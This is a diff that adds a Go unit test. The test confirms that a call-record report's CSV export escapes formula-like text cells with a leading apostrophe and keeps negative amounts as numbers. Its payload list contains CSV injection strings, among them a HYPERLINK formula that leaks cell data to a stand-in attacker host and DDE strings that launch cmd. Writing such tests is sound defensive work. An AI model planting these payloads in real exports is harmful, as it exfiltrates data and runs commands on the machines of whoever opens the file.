@@ -168,3 +168,28 @@ func TestExport(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVFormulaCells: a report or export cell of text from a call record
+// (dialed, account code, trunk) never reaches a spreadsheet as a formula;
+// negative amounts stay numbers (issue #14, D1).
+func TestCSVFormulaCells(t *testing.T) {
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `=1+1`, `-2+3+cmd|' /C calc'!A0`}
+	tab := &report.Table{Name: "t", Title: "T", Columns: []report.Column{{Name: "text"}, {Name: "amount", Kind: report.Money}, {Name: "n", Kind: report.Int}}}
+	for _, p := range payloads {
+		tab.Rows = append(tab.Rows, []any{p, report.Amount{Minor: -1250, Digits: 2}, int64(-3)})
+	}
+	var b bytes.Buffer
+	if err := render.Write(&b, tab, "csv"); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(recs) != len(payloads)+1 {
+		t.Fatalf("%v %v", recs, err)
+	}
+	for i, p := range payloads {
+		r := recs[i+1]
+		if r[0] != "'"+p || r[1] != "-12.50" || r[2] != "-3" {
+			t.Errorf("row %d: %q, want %q, -12.50, -3", i, r, "'"+p)
+		}
+	}
+}
